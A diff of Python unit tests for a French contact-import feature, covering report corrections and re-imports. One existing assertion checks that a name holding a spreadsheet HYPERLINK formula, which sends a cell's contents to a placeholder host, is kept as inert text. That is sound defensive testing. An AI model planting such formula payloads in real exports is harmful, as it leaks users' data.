@@ -6,7 +6,7 @@ from __future__ import annotations
 import os
 
 from app.services.contacts.transfer import report_path_for
-from tests.unit.import_helpers import details, report_rows, run_file, write
+from tests.unit.import_helpers import details, dry_run, report_rows, run_file, write
 
 LIST = (
     "Prénom;Nom;E-mail;Association;SIRET;Fonction\r\n"
@@ -116,3 +116,36 @@ def test_report_cells_survive_french_excel(db, tmp_path):
     found = details(db)
     assert found["Les Amis"].fields.siret == siret
     assert found['Marie =HYPERLINK("http://exemple.invalid/?"&C2)'].fields.last_name.startswith("=")
+
+
+def test_corrections_of_imported_lines_complete_their_contacts(db, tmp_path):
+    """Hélène's line went in without its e-mail and her association without its SIRET; corrected
+    in the report and imported again, both are completed: a report is imported with "update"."""
+    siret, club = "12345678200010", "87654321600025"
+    text = (
+        "Prénom;Nom;E-mail;Association;SIRET;Fonction\r\n"
+        f"Hélène;Lefèvre;helene-sans-arobase;Les Amis;{siret[:-1]}1;Trésorière\r\n"
+        "Paul;Roux;paul@exemple.fr;Club;1234;Président\r\n"
+    )
+    first = run_file(db, write(tmp_path, text, "adherents.csv"))
+    report = first.report_path
+    corrected = _corrected(report, {"helene-sans-arobase": "helene@exemple.fr", "1234;": f"{club};"})
+    report.write_text(corrected.replace("123 456 782 00011", siret), encoding="utf-8-sig")
+    preview = dry_run(db, report)
+    counts = preview.outcome.counts
+    assert (preview.outcome.policy, counts.created, counts.matched, counts.completable) == ("update", 0, 2, 2)
+    assert dry_run(db, report, policy="skip").outcome.counts.completable == 2  # what the dialog offers
+    second = run_file(db, report)
+    assert second.outcome.counts.completed == 2
+    found = details(db)
+    assert found["Hélène Lefèvre"].fields.email == "helene@exemple.fr"
+    assert found["Les Amis"].fields.siret == siret
+    assert found["Club"].fields.siret == club  # an organisation's value, on its member's line
+    assert run_file(db, report).outcome.counts.completable == 0  # once done, nothing more to do
+
+
+def test_a_list_imported_again_unchanged_has_nothing_to_complete(db, tmp_path):
+    path = write(tmp_path, LIST, "adherents.csv")
+    run_file(db, path)
+    again = dry_run(db, path)
+    assert (again.outcome.policy, again.outcome.counts.completable) == ("skip", 0)
